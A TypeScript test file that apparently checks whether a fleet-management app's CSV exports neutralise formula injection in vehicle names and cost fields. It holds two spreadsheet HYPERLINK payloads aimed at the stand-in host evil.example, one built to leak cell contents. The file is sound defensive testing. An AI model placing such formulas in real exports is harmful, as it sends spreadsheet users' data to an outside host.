/**
 * Issue 33, defect 12: every CSV export goes through the shared writer (core/src/csv.ts), so a vehicle or a
 * cost named like a spreadsheet formula reaches the file as text (`'=HYPERLINK(…)`), never as a formula;
 * numbers (a negative value included) stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dialects, startTestServer, type Client, type TestServer } from '../harness';
import { parseCsv } from '../csvRead';
import { managementFleet, type ManagementFleet } from '../../src/reports/testing/managementFleet';

const YEAR = { from: '2025-01-01 00:00:00', to: '2025-12-31 23:59:59' };
const EVIL_VEHICLE = '=HYPERLINK("http://evil.example/?d="&A1,"Camião")';
const EVIL_COST = '=HYPERLINK("http://evil.example/c","Seguro")';

async function csv(c: Client, path: string, body: unknown): Promise<string[][]> {
  const res = await fetch(c.base + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', cookie: c.cookie },
    body: JSON.stringify({ ...(body as object), format: 'csv' }),
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return parseCsv(
    Buffer.from(await res.arrayBuffer())
      .subarray(3)
      .toString('utf8'),
  );
}

/** No cell of the file starts like a formula unless it is a plain number. */
const formulaCells = (rows: string[][]) =>
  rows
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d[\d.,:\u0020\u00a0\u202f%]*)?$/.test(cell));

describe.each(dialects())('CSV exports neutralise formulas (%s)', (dialect) => {
  let server: TestServer;
  let f: ManagementFleet;
  beforeAll(async () => {
    server = await startTestServer(dialect);
    f = await managementFleet(server);
    const renamed = await f.admin.put(`/api/devices/${f.a.id}`, { ...f.a, name: EVIL_VEHICLE });
    expect(renamed.status, renamed.text).toBe(200);
    const cost = await f.admin.post(`/report/api.php/cost/${f.a.id}`, {
      cost_date: '2025-06-01',
      cost_type: 'other',
      entity: '@Entidade',
      designation: EVIL_COST,
      cost: 125,
    });
    expect(cost.status, cost.text).toBe(200);
  });
  afterAll(async () => server.close());

  it('cost list: the cost and the vehicle typed as formulas come out as text with a quote', async () => {
    const rows = await csv(f.manager.client, '/report/report_management_cost_list.php', {
      devices: [f.a.id, f.b.id],
      ...YEAR,
    });
    const line = rows.find((r) => r.includes(`'${EVIL_COST}`));
    expect(line, JSON.stringify(rows)).toBeDefined();
    expect(line).toContain(`'${EVIL_VEHICLE}`);
    expect(line).toContain("'@Entidade");
    expect(line).toContain('125');
    expect(formulaCells(rows)).toEqual([]);
  });

  it('km report: the vehicle name is text, the figures are numbers', async () => {
    const rows = await csv(f.reportsOnly.client, '/report/report_km.php', { devices: [f.a.id], ...YEAR });
    expect(rows.flat()).toContain(`'${EVIL_VEHICLE}`);
    expect(rows.flat().some((cell) => cell.includes(EVIL_VEHICLE) && !cell.startsWith("'"))).toBe(false);
    expect(formulaCells(rows)).toEqual([]);
  });
});
